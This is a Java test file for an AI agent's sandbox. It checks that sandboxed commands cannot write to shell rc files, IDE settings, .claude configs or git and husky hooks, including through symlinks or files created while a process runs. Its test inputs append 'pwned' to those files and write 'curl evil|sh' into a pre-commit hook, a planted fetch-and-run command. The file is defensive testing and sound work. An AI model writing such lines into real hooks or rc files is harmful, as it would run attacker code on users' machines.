package dev.monoagent.sandbox;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.monoagent.config.Enums.NetworkMode;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The engine turns srt's own per-wrap nested dangerous-file scan down to the top level
 * ({@link PolicyCompiler#MANDATORY_DENY_SEARCH_DEPTH} = 1), because it walks the whole workspace on every wrap. That
 * is only sound if our literal deny list covers everything srt's full-depth scan finds. Proven here on srt's real
 * output: the same engine is initialised once with srt's depth 10 and once with ours, each wraps a command, and
 * every read-only bind the depth-10 wrap puts inside the workspace must be in ours (itself or a directory holding
 * it). The corpus has what srt's scan matches: its dangerous files and dirs below the top level, at depth 10 and
 * beyond, in other letter cases (srt matches case-insensitively), under {@code node_modules} (srt skips it; we do
 * not), and nested repositories' hooks and config. Then the writes themselves are tried, and the same names created
 * by the human while a long-lived process keeps the engine from re-initialising (per-command denies; a repository
 * that appears then is moved out of host git's sight, as its doing).
 */
class SrtScanCoverageTest {
    @TempDir
    Path tmp;

    private static final List<String> CORPUS = List.of("a/.bashrc", "a/b/c/d/e/f/g/h/.zshrc",
            "d1/d2/d3/d4/d5/d6/d7/d8/d9/d10/d11/.profile", "Sub/.BashRC", "x/.VSCode/settings.json",
            ".IDEA/workspace.xml", "m/.idea/x.xml", "node_modules/pkg/.vscode/t.json", "p/.claude/commands/c.md",
            "p/.claude/agents/a.md", "q/.Claude/Commands/c.md", "r/.mcp.json", "s/.gitmodules", "t/.ripgreprc");

    @Test
    void ourDenyListCoversEverythingSrtsFullDepthScanDenies() throws Exception {
        Path ws = Files.createDirectories(tmp.resolve("ws")).toRealPath();
        for (String f : CORPUS) {
            Files.createDirectories(ws.resolve(f).getParent());
            Files.writeString(ws.resolve(f), "orig\n");
        }
        Files.createDirectories(ws.resolve("repo/.git/hooks"));
        Files.writeString(ws.resolve("repo/.git/hooks/pre-commit"), "#!/bin/sh\n");
        Files.writeString(ws.resolve("repo/.git/config"), "[core]\n");
        Files.writeString(ws.resolve("repo/.git/HEAD"), "ref: refs/heads/main\n");
        try (Sandbox sb = TestEngine.openReady(ws)) {
            NativeEngine ne = sb.engine();
            Path rg = ((HostTools.Ok) HostTools.find(TestEngine.env())).tools().rg();
            SrtConfig ours = PolicyCompiler.srtConfig(ne.policy(), ne.denyLiterals(), ne.facts(), List.of(),
                    WorkspaceFacts.scan(ne.policy(), rg, TestEngine.env().home()));
            assertEquals(1, ours.mandatoryDenySearchDepth());
            SrtConfig srtsOwn = new SrtConfig(ours.network(), ours.filesystem(), ours.ripgrep(), 10,
                    ours.bwrapPath(), ours.socatPath(), ours.applySeccomp());
            Set<String> deep = readOnlyBinds(ne, srtsOwn.toMap(), ws);
            Set<String> flat = readOnlyBinds(ne, ours.toMap(), ws);
            // not vacuous: srt's deep scan did find the nested names (here it would have denied them itself)
            for (String f : List.of("a/.bashrc", "Sub/.BashRC", "x/.VSCode", "repo/.git/hooks")) {
                assertTrue(deep.contains(ws.resolve(f).toString()), "srt's depth-10 scan missed " + f + ": " + deep);
            }
            List<String> missing = new ArrayList<>();
            for (String d : deep) {
                if (flat.stream().noneMatch(o -> d.equals(o) || d.startsWith(o + "/"))) {
                    missing.add(d);
                }
            }
            assertTrue(missing.isEmpty(), "denied by srt's full-depth scan but not by our list: " + missing);

            // and the writes fail, whatever the depth or case (each path keeps its content)
            TestEngine.bash(sb, ws, appendTo(CORPUS) + "echo pwned >> repo/.git/hooks/pre-commit 2>/dev/null; true",
                    "run-cov", "call-cov", Duration.ofSeconds(30));
            for (String f : CORPUS) {
                assertEquals("orig\n", Files.readString(ws.resolve(f)), f + " was written");
            }
        }
    }

    @Test
    void namesTheHumanCreatesWhileALongLivedProcessRunsAreDeniedPerCommand() throws Exception {
        Path ws = Files.createDirectories(tmp.resolve("ws")).toRealPath();
        Files.writeString(ws.resolve("README.md"), "hi\n");
        try (Sandbox sb = TestEngine.openReady(ws)) {
            SandboxProcess repl = TestEngine.longLived(sb, ws, "sleep 60", "run-cov", "call-repl",
                    Duration.ofSeconds(90));
            try {
                // what srt's per-wrap scan would have denied on the next command (the engine cannot re-initialise)
                List<String> late = List.of("late/.vscode/tasks.json", "late/deep/.BASHRC", "late/.husky/pre-commit",
                        "late/repo/.git/hooks/pre-push");
                for (String f : late) {
                    Files.createDirectories(ws.resolve(f).getParent());
                    Files.writeString(ws.resolve(f), "orig\n");
                }
                TestEngine.bash(sb, ws, appendTo(late) + "echo x > late/.vscode/new.json 2>/dev/null; true",
                        "run-cov", "call-late", Duration.ofSeconds(30));
                for (String f : late) {
                    assertEquals("orig\n", Files.readString(ws.resolve(f)), f + " was written while the process ran");
                }
                assertTrue(!Files.exists(ws.resolve("late/.vscode/new.json")), "a new file in a late .vscode dir");
            } finally {
                repl.destroy();
            }
        }
    }

    /**
     * The same names plus a repository host git would obey, made beside the running process: the repository is moved
     * to the quarantine at once, the names stay unwritten. This used to fail in warm-JVM runs (a full suite, or the
     * class run alone; 3 to 6 of 8 repetitions): the host stops every sandboxed process to judge the repository, and
     * the process, spawned a moment before, was still entering its control group — the freeze failed its
     * verification, the process was killed, its end scan quarantined the human's names as its doing, and the next
     * command created a fresh {@code late/.vscode/tasks.json} in the emptied directory (see
     * {@code GitPlantedDuringCommandTest#aProcessStoppedRightAfterItStartsIsStoppedAndRunsOnNotKilled}).
     */
    @Test
    void aRepositoryBesideTheHumansNewNamesLeavesThemUnwritten() throws Exception {
        Path ws = Files.createDirectories(tmp.resolve("ws")).toRealPath();
        Files.writeString(ws.resolve("README.md"), "hi\n");
        try (Sandbox sb = TestEngine.openReady(ws)) {
            SandboxProcess repl = TestEngine.longLived(sb, ws, "sleep 60", "run-cov3", "call-repl",
                    Duration.ofSeconds(90));
            try {
                List<String> late = List.of("late/.vscode/tasks.json", "late/deep/.BASHRC", "late/.husky/pre-commit",
                        "late/repo/.git/hooks/pre-push", "late/full/.git/hooks/pre-push");
                for (String f : late) {
                    Files.createDirectories(ws.resolve(f).getParent());
                    Files.writeString(ws.resolve(f), "orig\n");
                }
                Files.createDirectories(ws.resolve("late/full/.git/objects"));
                Files.createDirectories(ws.resolve("late/full/.git/refs"));
                Files.writeString(ws.resolve("late/full/.git/HEAD"), "ref: refs/heads/main\n");
                TestEngine.bash(sb, ws, appendTo(late) + "true", "run-cov3", "call-late", Duration.ofSeconds(30));
                long deadline = System.nanoTime() + 10_000_000_000L;
                while (Files.exists(ws.resolve("late/full/.git")) && System.nanoTime() < deadline) {
                    Thread.sleep(20);
                }
                assertTrue(!Files.exists(ws.resolve("late/full/.git")), "the repository stayed in host git's sight");
                // each file unwritten wherever it is: in place, or in the quarantine
                for (String f : late) {
                    List<Path> copies = new ArrayList<>();
                    if (Files.exists(ws.resolve(f))) {
                        copies.add(ws.resolve(f));
                    }
                    String moved = f.replace("/.git/", "/dot-git/");
                    try (var q = Files.walk(ws.resolve(".mono-agent/quarantine"))) {
                        q.filter(x -> x.toString().endsWith("/" + f) || x.toString().endsWith("/" + moved))
                                .forEach(copies::add);
                    } catch (java.nio.file.NoSuchFileException none) {
                        // nothing quarantined
                    }
                    assertTrue(!copies.isEmpty(), f + " was lost");
                    for (Path c : copies) {
                        assertEquals("orig\n", Files.readString(c), f + " was written while the process ran: " + c);
                    }
                }
            } finally {
                repl.destroy();
            }
        }
    }

    /**
     * The warm shell is replaced when the layout changes; while a long-lived process runs, the new one is wrapped under
     * the same initialised set (nothing is re-initialised or ended), so the names the human made since must reach it
     * as per-wrap denies: each later command is refused them, and the process runs on.
     */
    @Test
    void aShellReplacedBesideARunningLongLivedProcessIsRefusedTheNewNames() throws Exception {
        Path ws = Files.createDirectories(tmp.resolve("ws")).toRealPath();
        Files.writeString(ws.resolve("README.md"), "hi\n");
        try (Sandbox sb = TestEngine.openReady(ws)) {
            SandboxProcess repl = TestEngine.longLived(sb, ws, "sleep 60", "run-cov2", "call-repl",
                    Duration.ofSeconds(90));
            try {
                List<String> all = new ArrayList<>();
                for (int round = 0; round < 3; round++) {
                    // a command on the run's shell, then new names on the host: the next command gets a new shell
                    TestEngine.bash(sb, ws, "true", "run-cov2", "call-warm-" + round, Duration.ofSeconds(30));
                    List<String> late = List.of("r" + round + "/.vscode/tasks.json", "r" + round + "/.envrc",
                            "r" + round + "/a/b/.Zshrc", "r" + round + "/.claude/settings.json");
                    for (String f : late) {
                        Files.createDirectories(ws.resolve(f).getParent());
                        Files.writeString(ws.resolve(f), "orig\n");
                    }
                    all.addAll(late);
                    ExecOutcome.Completed r = TestEngine.bash(sb, ws, appendTo(all) + "echo ran", "run-cov2",
                            "call-late-" + round, Duration.ofSeconds(30));
                    assertEquals("ran\n", r.stdout(), r.stderr());
                    for (String f : all) {
                        assertEquals("orig\n", Files.readString(ws.resolve(f)), f + " was written in round " + round);
                    }
                }
                assertTrue(repl.isAlive(), "the long-lived process runs on");
            } finally {
                repl.destroy();
            }
        }
    }

    /** A script that tries to append to each of {@code files} (failures silent: the host files are the verdict). */
    /**
     * A protected file saved while the run's warm shell starts beside a running long-lived process — after the
     * snapshot the shell's denies come from, before its mounts are made — is not denied on that shell, and every later
     * command of the run could overwrite it in place. Made deterministic here: the files are saved from
     * the engine's seam between the shell's wrap and its spawn. The shell that missed them is dropped; the command
     * runs on a fresh sandbox, the next one on a new shell, and neither can write them.
     */
    @Test
    void aProtectedFileSavedWhileTheShellStartsIsNotWritableOnIt() throws Exception {
        Path ws = Files.createDirectories(tmp.resolve("ws")).toRealPath();
        Files.writeString(ws.resolve("README.md"), "hi\n");
        try (Sandbox sb = TestEngine.openReady(ws)) {
            SandboxProcess repl = TestEngine.longLived(sb, ws, "sleep 60", "run-a1", "call-repl",
                    Duration.ofSeconds(90));
            List<String> saved = List.of("late/.env.custom", "late/.vscode/tasks.json", "late/.envrc");
            java.util.concurrent.atomic.AtomicInteger starts = new java.util.concurrent.atomic.AtomicInteger();
            sb.engine().shellStarting = () -> {
                if (starts.getAndIncrement() == 0) {
                    try {
                        for (String f : saved) {
                            Files.createDirectories(ws.resolve(f).getParent());
                            Files.writeString(ws.resolve(f), "orig\n");
                        }
                    } catch (java.io.IOException e) {
                        throw new java.io.UncheckedIOException(e);
                    }
                }
            };
            try {
                for (int i = 0; i < 3; i++) {
                    ExecOutcome.Completed r = TestEngine.bash(sb, ws, appendTo(saved) + "echo ran", "run-a1",
                            "call-a1-" + i, Duration.ofSeconds(30));
                    assertEquals("ran\n", r.stdout(), r.stderr());
                    for (String f : saved) {
                        assertEquals("orig\n", Files.readString(ws.resolve(f)), f + " was written by command " + i);
                    }
                }
                assertTrue(starts.get() >= 1, "no warm shell was started");
                assertTrue(repl.isAlive(), "the long-lived process runs on");
            } finally {
                sb.engine().shellStarting = () -> { };
                repl.destroy();
            }
        }
    }

    /**
     * A symlinked protected name ({@code .env.custom -> config/prod.env}) the human makes beside a running long-lived
     * process must not be left out of the per-command denies, or a command writes through it with no record. It is
     * handed to srt like the other new names (srt denies its target, as a re-initialise would), on the warm
     * shell and on a per-command sandbox alike.
     */
    @Test
    void aSymlinkedProtectedNameMadeBesideALongLivedProcessIsNotWrittenThrough() throws Exception {
        boolean was = NativeEngine.warmDefault;
        try {
            for (boolean warm : new boolean[] {true, false}) {
                NativeEngine.warmDefault = warm;
                Path ws = Files.createDirectories(tmp.resolve(warm ? "warm" : "cold")).toRealPath();
                Files.writeString(ws.resolve("README.md"), "hi\n");
                try (Sandbox sb = TestEngine.openReady(ws)) {
                    SandboxProcess repl = TestEngine.longLived(sb, ws, "sleep 60", "run-a2", "call-repl",
                            Duration.ofSeconds(90));
                    try {
                        Path target = Files.createDirectories(ws.resolve("config")).resolve("prod.env");
                        Files.writeString(target, "orig\n");
                        Files.createSymbolicLink(ws.resolve(".env.custom"), Path.of("config/prod.env"));
                        Files.createDirectories(ws.resolve("late"));
                        Files.createSymbolicLink(ws.resolve("late/.env.custom"), Path.of("../config/prod.env"));
                        for (String run : List.of("run-a2", "run-a2-other")) {
                            ExecOutcome.Completed r = TestEngine.bash(sb, ws, "echo pwned >> .env.custom 2>/dev/null; "
                                    + "echo pwned >> late/.env.custom 2>/dev/null; echo ran", run, "call-a2",
                                    Duration.ofSeconds(30));
                            assertEquals("ran\n", r.stdout(), r.stderr());
                            assertEquals("orig\n", Files.readString(target), "written through the symlink in " + run
                                    + (warm ? " (warm shell)" : " (per-command sandbox)"));
                        }
                        assertEquals(warm ? 2 : 0, sb.engine().warmShellsAlive(), "the path under test");
                        assertTrue(repl.isAlive(), "the long-lived process runs on");
                    } finally {
                        repl.destroy();
                    }
                }
            }
        } finally {
            NativeEngine.warmDefault = was;
        }
    }

    /**
     * Symlinked protected names to directories ({@code .env.dir -> .}, {@code sub/.env.tmp -> $TMPDIR}) made beside a
     * running long-lived process are not handed to srt (it would bind the target read-only whole: the workspace and
     * the temp dir would turn read-only on the warm shell, and a per-command wrap would fail on the placeholders
     * inside). Commands keep working on both paths.
     */
    @Test
    void aSymlinkedProtectedNameToADirectoryDoesNotMakeItsTargetReadOnly() throws Exception {
        boolean was = NativeEngine.warmDefault;
        try {
            for (boolean warm : new boolean[] {true, false}) {
                NativeEngine.warmDefault = warm;
                Path ws = Files.createDirectories(tmp.resolve(warm ? "w7" : "c7")).toRealPath();
                Files.writeString(ws.resolve("README.md"), "hi\n");
                try (Sandbox sb = TestEngine.openReady(ws)) {
                    SandboxProcess p = TestEngine.longLived(sb, ws, "sleep 60", "run-a7", "call-repl",
                            Duration.ofSeconds(90));
                    try {
                        Files.createSymbolicLink(ws.resolve(".env.dir"), Path.of("."));
                        Files.createDirectories(ws.resolve("sub"));
                        Files.createSymbolicLink(ws.resolve("sub/.env.tmp"), sb.engine().sessionTmp());
                        ExecOutcome.Completed r = TestEngine.bash(sb, ws, "echo hi > out.txt && echo hi > "
                                + "\"$TMPDIR/x\" && echo ran", "run-a7", "call-a7", Duration.ofSeconds(30));
                        assertEquals("ran\n", r.stdout(), (warm ? "warm: " : "per-command: ") + r.stderr());
                        assertEquals("hi\n", Files.readString(ws.resolve("out.txt")));
                    } finally {
                        p.destroy();
                    }
                }
            }
        } finally {
            NativeEngine.warmDefault = was;
        }
    }

    /**
     * A symlinked protected directory ({@code .husky -> tools/husky}) the human makes beside a running long-lived
     * process must not be left out of the per-command denies (handing on only symlinks to files would), or a command
     * appends to the hook through it with nothing recorded. Its target directory is denied, on both paths.
     */
    @Test
    void aSymlinkedProtectedDirectoryMadeBesideALongLivedProcessIsNotWrittenThrough() throws Exception {
        boolean was = NativeEngine.warmDefault;
        try {
            for (boolean warm : new boolean[] {true, false}) {
                NativeEngine.warmDefault = warm;
                Path ws = Files.createDirectories(tmp.resolve(warm ? "w8" : "c8")).toRealPath();
                Files.writeString(ws.resolve("README.md"), "hi\n");
                Path target = Files.createDirectories(ws.resolve("tools/husky"));
                Files.writeString(target.resolve("pre-commit"), "npm test\n");
                try (Sandbox sb = TestEngine.openReady(ws)) {
                    SandboxProcess p = TestEngine.longLived(sb, ws, "sleep 60", "run-c4", "call-repl",
                            Duration.ofSeconds(90));
                    try {
                        TestEngine.bash(sb, ws, "true", "run-c4", "call-c4-0", Duration.ofSeconds(30));
                        Files.createSymbolicLink(ws.resolve(".husky"), Path.of("tools/husky"));
                        ExecOutcome.Completed r = TestEngine.bash(sb, ws, "echo 'curl evil|sh' >> .husky/pre-commit "
                                + "2>/dev/null; echo x > .husky/post-merge 2>/dev/null; echo ran", "run-c4", "call-c4-1",
                                Duration.ofSeconds(30));
                        assertEquals("ran\n", r.stdout(), r.stderr());
                        assertEquals("npm test\n", Files.readString(target.resolve("pre-commit")),
                                (warm ? "warm" : "per-command") + ": written through the symlinked .husky");
                        assertTrue(!Files.exists(target.resolve("post-merge")), "a new hook through the link");
                        // the rest of the workspace stays writable
                        TestEngine.bash(sb, ws, "echo ok > tools/other.txt", "run-c4", "call-c4-2",
                                Duration.ofSeconds(30));
                        assertEquals("ok\n", Files.readString(ws.resolve("tools/other.txt")));
                    } finally {
                        p.destroy();
                    }
                }
            }
        } finally {
            NativeEngine.warmDefault = was;
        }
    }

    private static String appendTo(List<String> files) {
        StringBuilder script = new StringBuilder();
        for (String f : files) {
            script.append("echo pwned >> '").append(f).append("' 2>/dev/null; ");
        }
        return script.toString();
    }

    /** Paths inside {@code ws} that a fresh wrap under {@code config} binds read-only (srt's write denies). */
    private static Set<String> readOnlyBinds(NativeEngine ne, Map<String, Object> config, Path ws) throws Exception {
        SrtBridge.InitResult init = ne.bridge().init(config, Duration.ofSeconds(30));
        assertTrue(init.clean(), String.valueOf(init.problem()));
        SrtBridge.Wrapped w = ne.bridge().wrap(false, null, Duration.ofSeconds(30));
        ne.bridge().cleanup();
        List<String> args = shellWords(w.wrapped());
        Set<String> out = new LinkedHashSet<>();
        for (int i = 0; i + 2 < args.size(); i++) {
            if (args.get(i).equals("--ro-bind") || args.get(i).equals("--ro-bind-try")) {
                String dst = args.get(i + 2);
                if (dst.startsWith(ws + "/")) {
                    out.add(dst);
                }
            }
        }
        return out;
    }

    /** Splits a POSIX shell command line into words (single and double quotes, backslashes). */
    static List<String> shellWords(String s) {
        List<String> out = new ArrayList<>();
        StringBuilder cur = new StringBuilder();
        boolean in = false;
        for (int i = 0; i < s.length(); i++) {
            char c = s.charAt(i);
            if (c == '\'') {
                int end = s.indexOf('\'', i + 1);
                cur.append(s, i + 1, end);
                i = end;
                in = true;
            } else if (c == '"') {
                int j = i + 1;
                for (; s.charAt(j) != '"'; j++) {
                    if (s.charAt(j) == '\\') {
                        j++;
                    }
                    cur.append(s.charAt(j));
                }
                i = j;
                in = true;
            } else if (c == '\\' && i + 1 < s.length()) {
                cur.append(s.charAt(++i));
                in = true;
            } else if (Character.isWhitespace(c)) {
                if (in) {
                    out.add(cur.toString());
                    cur.setLength(0);
                    in = false;
                }
            } else {
                cur.append(c);
                in = true;
            }
        }
        if (in) {
            out.add(cur.toString());
        }
        return out;
    }
}
